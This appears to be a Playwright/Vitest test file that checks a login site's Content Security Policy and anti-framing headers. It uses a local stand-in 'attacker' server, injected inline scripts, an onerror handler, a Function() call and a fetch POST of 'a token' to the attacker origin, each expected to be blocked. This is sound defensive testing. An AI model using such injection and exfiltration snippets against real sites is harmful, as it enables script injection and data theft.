import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';
import { launchBrowser } from '../support/browser';

let browser: Browser;
let page: Page;
let attacker: Server;
let attackersOrigin: string;
const asked: string[] = [];

/** Another origin: it serves a script that marks the page, and a page that frames the site. */
async function startAttacker(): Promise<void> {
  attacker = createServer((request, response) => {
    asked.push(request.url ?? '');
    const isScript = request.url === '/script.js';
    response.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
    const frame = `<iframe id="frame" src="${inject('stack').site}/login"></iframe>`;
    response.end(isScript ? 'document.title = "taken over"' : frame);
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackersOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  browser = await launchBrowser();
  await startAttacker();
});

afterAll(async () => {
  await browser.close();
  attacker.closeAllConnections();
  attacker.close();
});

beforeEach(async () => {
  asked.length = 0;
  page = await browser.newPage();
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  });
  await page.goto(`${inject('stack').site}/login`);
  await page.getByRole('button', { name: 'Login', exact: true }).waitFor();
});

afterEach(() => page.close());

/** Waits until the browser has refused something, and says which directive forbade it. */
async function refusals(): Promise<string[]> {
  const list = await page.waitForFunction(() => {
    const { refused } = window as unknown as { refused: string[] };
    return refused.length > 0 ? refused : null;
  });
  return (await list.jsonValue()) ?? [];
}

async function injectMarkup(html: string): Promise<void> {
  await page.evaluate((markup) => {
    document.body.append(document.createRange().createContextualFragment(markup));
  }, html);
}

describe('in a page of the site', () => {
  it('an injected inline script does not run', async () => {
    await injectMarkup('<script>document.title = "taken over"</script>');
    expect(await refusals()).toEqual(['script-src-elem']);
    expect(await page.title()).not.toBe('taken over');
  });

  it('an injected handler of an event does not run', async () => {
    await injectMarkup('<img src="/nothing.png" onerror="document.title = \'taken over\'">');
    expect(await refusals()).toEqual(['script-src-attr']);
    expect(await page.title()).not.toBe('taken over');
  });

  it('a script of another origin is not even asked for', async () => {
    await injectMarkup(`<script src="${attackersOrigin}/script.js"></script>`);
    expect(await refusals()).toEqual(['script-src-elem']);
    expect(asked).toEqual([]);
  });

  it('text does not become code', async () => {
    // A moment later, because what the test itself evaluates is exempt from the policy.
    const ran = await page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          setTimeout(() => {
            try {
              resolve(Function('return true')() as boolean);
            } catch {
              resolve(false);
            }
          });
        }),
    );
    expect(ran).toBe(false);
    expect(await refusals()).toEqual(['script-src']);
  });

  it('nothing can be sent to another origin', async () => {
    const sent = await page.evaluate(
      (url) =>
        fetch(url, { method: 'POST', body: 'a token', mode: 'no-cors' }).then(
          () => true,
          () => false,
        ),
      attackersOrigin,
    );
    expect(sent).toBe(false);
    expect(await refusals()).toEqual(['connect-src']);
    expect(asked).toEqual([]);
  });
});

describe('a page of another origin', () => {
  it('cannot show the site in a frame', async () => {
    await page.goto(`${attackersOrigin}/`);
    await page.waitForLoadState('networkidle');
    const frame = page.frames().find((candidate) => candidate.parentFrame() !== null);
    expect(frame?.url()).toMatch(/^chrome-error:/);
    expect(await frame?.locator('body').innerText()).not.toContain('Login');
  });
});
